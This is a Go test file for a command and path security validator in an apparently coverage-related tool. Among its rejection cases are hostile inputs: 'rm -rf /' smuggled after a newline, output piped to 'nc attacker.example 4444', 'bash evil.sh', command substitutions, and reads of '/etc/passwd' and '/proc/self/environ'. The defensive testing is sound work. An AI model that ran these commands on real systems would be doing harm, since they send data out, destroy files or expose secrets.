package security

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestValidateCommandString(t *testing.T) {
	v := NewSecurityValidator()

	tests := []struct {
		name    string
		command string
		wantErr bool
		errMsg  string
	}{
		{
			name:    "plain command",
			command: "go test ./...",
			wantErr: false,
		},
		{
			name:    "command with pipe",
			command: "pytest --cov 2>&1 | tee out.log",
			wantErr: false,
		},
		{
			name:    "command with chained steps",
			command: "npm run build && npm test",
			wantErr: false,
		},
		{
			name:    "quoted arguments",
			command: `pytest -k "not slow" --cov=src`,
			wantErr: false,
		},
		{
			name:    "empty command",
			command: "",
			wantErr: true,
			errMsg:  "empty",
		},
		{
			name:    "whitespace only",
			command: "   ",
			wantErr: true,
			errMsg:  "empty",
		},
		{
			name:    "null byte",
			command: "go test\x00 ./...",
			wantErr: true,
			errMsg:  "null byte",
		},
		{
			name:    "embedded newline",
			command: "go test\nrm -rf /",
			wantErr: true,
			errMsg:  "line break",
		},
		{
			name:    "carriage return",
			command: "go test\r\nwhoami",
			wantErr: true,
			errMsg:  "line break",
		},
		{
			name:    "unterminated quote",
			command: `pytest -k "not slow`,
			wantErr: true,
			errMsg:  "not parseable",
		},
		{
			name:    "rm with force recursive",
			command: "rm -rf build",
			wantErr: true,
			errMsg:  "dangerous",
		},
		{
			name:    "rm with separate flags",
			command: "rm -r -f build",
			wantErr: true,
			errMsg:  "dangerous",
		},
		{
			name:    "rm without force",
			command: "rm -r build",
			wantErr: false,
		},
		{
			name:    "rm chained after tests",
			command: "go test ./... && rm -rf coverage",
			wantErr: true,
			errMsg:  "dangerous",
		},
		{
			name:    "curl writing to system path",
			command: "curl -o /etc/passwd http://example.com",
			wantErr: true,
		},
		{
			name:    "curl writing to local file",
			command: "curl -o results.json http://localhost:8080/report",
			wantErr: false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.ValidateCommandString(tt.command)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateCommandString(%q) error = %v, wantErr %v", tt.command, err, tt.wantErr)
			}
			if err != nil && tt.errMsg != "" && !strings.Contains(err.Error(), tt.errMsg) {
				t.Errorf("error message %q does not contain %q", err.Error(), tt.errMsg)
			}
		})
	}
}

func TestValidateCommandString_AllowList(t *testing.T) {
	v := NewSecurityValidator()
	v.SetAllowedCommands([]string{"go", "pytest", "tee"})

	tests := []struct {
		name    string
		command string
		wantErr bool
		errMsg  string
	}{
		{
			name:    "allowed command",
			command: "go test ./...",
			wantErr: false,
		},
		{
			name:    "allowed by base name",
			command: "/usr/local/bin/pytest --cov",
			wantErr: false,
		},
		{
			name:    "disallowed command",
			command: "make test",
			wantErr: true,
			errMsg:  "not in the allowed list",
		},
		{
			name:    "allowed pipe segments",
			command: "pytest --cov | tee out.log",
			wantErr: false,
		},
		{
			name:    "disallowed pipe segment",
			command: "pytest --cov | nc attacker.example 4444",
			wantErr: true,
			errMsg:  "not in the allowed list",
		},
		{
			name:    "disallowed after chain",
			command: "go test && bash evil.sh",
			wantErr: true,
			errMsg:  "not in the allowed list",
		},
		{
			name:    "command substitution",
			command: "go test $(cat /tmp/cmds)",
			wantErr: true,
			errMsg:  "substitution",
		},
		{
			name:    "backtick substitution",
			command: "go test `whoami`",
			wantErr: true,
			errMsg:  "substitution",
		},
		{
			name:    "glued semicolon in program position",
			command: "go;whoami test",
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.ValidateCommandString(tt.command)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateCommandString(%q) error = %v, wantErr %v", tt.command, err, tt.wantErr)
			}
			if err != nil && tt.errMsg != "" && !strings.Contains(err.Error(), tt.errMsg) {
				t.Errorf("error message %q does not contain %q", err.Error(), tt.errMsg)
			}
		})
	}
}

func TestValidatePath(t *testing.T) {
	v := NewSecurityValidator()

	cwd, err := os.Getwd()
	if err != nil {
		t.Fatalf("Failed to get working directory: %v", err)
	}

	tests := []struct {
		name    string
		path    string
		wantErr bool
		errMsg  string
	}{
		{
			name:    "relative path in project",
			path:    "coverage/report.xml",
			wantErr: false,
		},
		{
			name:    "absolute path in project",
			path:    filepath.Join(cwd, "report.xml"),
			wantErr: false,
		},
		{
			name:    "empty path",
			path:    "",
			wantErr: true,
			errMsg:  "empty",
		},
		{
			name:    "path traversal",
			path:    "../../../etc/passwd",
			wantErr: true,
			errMsg:  "traversal",
		},
		{
			name:    "null byte in path",
			path:    "report\x00.xml",
			wantErr: true,
			errMsg:  "null byte",
		},
		{
			name:    "banned system path",
			path:    "/etc/passwd",
			wantErr: true,
		},
		{
			name:    "proc filesystem",
			path:    "/proc/self/environ",
			wantErr: true,
		},
		{
			name:    "temp directory allowed",
			path:    filepath.Join(os.TempDir(), "covergate-test", "report.xml"),
			wantErr: false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.ValidatePath(tt.path)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidatePath(%q) error = %v, wantErr %v", tt.path, err, tt.wantErr)
			}
			if err != nil && tt.errMsg != "" && !strings.Contains(err.Error(), tt.errMsg) {
				t.Errorf("error message %q does not contain %q", err.Error(), tt.errMsg)
			}
		})
	}
}

func TestValidateScopedPath(t *testing.T) {
	v := NewSecurityValidator()
	root := t.TempDir()

	tests := []struct {
		name    string
		path    string
		wantErr bool
	}{
		{
			name:    "relative inside root",
			path:    "coverage.xml",
			wantErr: false,
		},
		{
			name:    "nested relative",
			path:    "reports/coverage.xml",
			wantErr: false,
		},
		{
			name:    "absolute inside root",
			path:    filepath.Join(root, "coverage.xml"),
			wantErr: false,
		},
		{
			name:    "dot segments that stay inside",
			path:    "reports/../coverage.xml",
			wantErr: false,
		},
		{
			name:    "escape via dot segments",
			path:    "../outside.xml",
			wantErr: true,
		},
		{
			name:    "absolute outside root",
			path:    "/etc/passwd",
			wantErr: true,
		},
		{
			name:    "temp path outside root",
			path:    filepath.Join(os.TempDir(), "covergate-recovery", "sidecar.json"),
			wantErr: false,
		},
		{
			name:    "empty path",
			path:    "",
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.ValidateScopedPath(root, tt.path)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateScopedPath(%q, %q) error = %v, wantErr %v", root, tt.path, err, tt.wantErr)
			}
		})
	}
}

func TestValidateRegexPattern(t *testing.T) {
	v := NewSecurityValidator()

	tests := []struct {
		name    string
		pattern string
		wantErr bool
		errMsg  string
	}{
		{
			name:    "simple pattern",
			pattern: "error|warning",
			wantErr: false,
		},
		{
			name:    "anchored pattern",
			pattern: `^FAIL\b.*$`,
			wantErr: false,
		},
		{
			name:    "nested quantifiers",
			pattern: "(a+)+b",
			wantErr: true,
			errMsg:  "catastrophic backtracking",
		},
		{
			name:    "nested star",
			pattern: "(a*)*b",
			wantErr: true,
			errMsg:  "catastrophic backtracking",
		},
		{
			name:    "too long",
			pattern: strings.Repeat("a", 501),
			wantErr: true,
			errMsg:  "too long",
		},
		{
			name:    "invalid syntax",
			pattern: "[unclosed",
			wantErr: true,
		},
		{
			name:    "excessive alternation",
			pattern: strings.Repeat("a|", 11) + "b",
			wantErr: true,
			errMsg:  "alternation",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.ValidateRegexPattern(tt.pattern)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateRegexPattern(%q) error = %v, wantErr %v", tt.pattern, err, tt.wantErr)
			}
			if err != nil && tt.errMsg != "" && !strings.Contains(err.Error(), tt.errMsg) {
				t.Errorf("error message %q does not contain %q", err.Error(), tt.errMsg)
			}
		})
	}
}

func TestValidateTimeout(t *testing.T) {
	v := NewSecurityValidator()

	tests := []struct {
		name    string
		timeout time.Duration
		wantErr bool
	}{
		{
			name:    "reasonable timeout",
			timeout: 5 * time.Minute,
			wantErr: false,
		},
		{
			name:    "zero means default",
			timeout: 0,
			wantErr: false,
		},
		{
			name:    "negative timeout",
			timeout: -1 * time.Second,
			wantErr: true,
		},
		{
			name:    "exceeds maximum",
			timeout: 2 * time.Hour,
			wantErr: true,
		},
		{
			name:    "below minimum",
			timeout: 50 * time.Millisecond,
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.ValidateTimeout(tt.timeout)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateTimeout(%v) error = %v, wantErr %v", tt.timeout, err, tt.wantErr)
			}
		})
	}
}

func TestSetAllowedCommands(t *testing.T) {
	v := NewSecurityValidator()

	// No list configured, everything passes the allow-list stage
	if err := v.ValidateCommandString("some-obscure-tool --flag"); err != nil {
		t.Errorf("unexpected error with empty allow list: %v", err)
	}

	v.SetAllowedCommands([]string{"go"})
	if err := v.ValidateCommandString("some-obscure-tool --flag"); err == nil {
		t.Error("expected error after configuring allow list")
	}
	if err := v.ValidateCommandString("go test ./..."); err != nil {
		t.Errorf("allowed command rejected: %v", err)
	}
}
